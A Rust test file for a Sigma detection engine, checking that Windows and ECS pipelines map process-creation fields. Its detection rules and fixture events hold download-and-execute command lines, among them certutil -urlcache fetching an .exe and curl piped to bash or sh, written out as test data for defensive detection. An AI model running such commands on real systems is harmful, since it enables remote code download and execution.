//! Logsource and field mapping through the built-in pipelines (data files under `pipelines/`):
//! the same Sigma rule on EVTX-shaped events (Sysmon 1 and Security 4688) and on ECS documents.

mod common;
use serde_json::json;
use yagura_sigma::{Pipeline, Plan};

const RULE: &str = "title: Certutil download\nid: 5a0f0000-0000-4000-8000-0000000000aa\nlogsource: {category: process_creation, product: windows}\ndetection:\n  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: 'urlcache'\n  condition: sel\n";
const LINUX_RULE: &str = "title: Curl to bash\nlogsource: {category: process_creation, product: linux}\ndetection:\n  sel: {Image|endswith: '/bash', CommandLine|contains: 'curl'}\n  condition: sel\n";

fn fires(yaml: &str, pipeline: &Pipeline, ev: serde_json::Value) -> bool {
    let set = common::rules(yaml);
    let plan = Plan::compile(&set, pipeline);
    let mut s = plan.scratch();
    let mut out = Vec::new();
    plan.evaluate(&common::record(&ev), &mut s, &mut out);
    !out.is_empty()
}

#[test]
fn windows_pipeline_maps_process_creation_to_sysmon_1_and_security_4688() {
    let w = Pipeline::windows();
    let sysmon = json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
        "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a.exe"});
    assert!(fires(RULE, w, sysmon.clone()));
    // Security 4688 names the image NewProcessName (thor.yml's mapping).
    let security = json!({"Channel": "Security", "EventID": 4688,
        "NewProcessName": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a.exe"});
    assert!(fires(RULE, w, security));
    // The same fields on another event id or channel are not process creations.
    let mut other = sysmon.clone();
    other["EventID"] = json!(3);
    assert!(!fires(RULE, w, other));
    let mut app = sysmon;
    app["Channel"] = json!("Application");
    assert!(!fires(RULE, w, app));
}

#[test]
fn windows_pipeline_keeps_other_products_off_windows_events() {
    let w = Pipeline::windows();
    let ev = json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
        "Image": "/usr/bin/bash", "CommandLine": "curl x | bash"});
    assert!(!fires(LINUX_RULE, w, ev));
    let set = common::rules(LINUX_RULE);
    assert_eq!(Plan::compile(&set, w).inactive_rules(), [0]);
}

#[test]
fn ecs_pipeline_maps_field_names_and_logsources() {
    let e = Pipeline::ecs();
    let winlogbeat = json!({"winlog.channel": "Microsoft-Windows-Sysmon/Operational", "event.code": "1",
        "process.executable": "C:\\Windows\\System32\\certutil.exe",
        "process.command_line": "certutil.exe -urlcache -split -f http://x/a"});
    assert!(fires(RULE, e, winlogbeat.clone()));
    let mut network = winlogbeat;
    network["event.code"] = json!("3");
    assert!(!fires(RULE, e, network));
    let linux = json!({"event.category": "process", "event.type": "start", "host.os.type": "linux",
        "process.executable": "/usr/bin/bash", "process.command_line": "bash -c 'curl http://x | sh'"});
    assert!(fires(LINUX_RULE, e, linux.clone()));
    let mut mac = linux;
    mac["host.os.type"] = json!("macos");
    assert!(!fires(LINUX_RULE, e, mac));
}
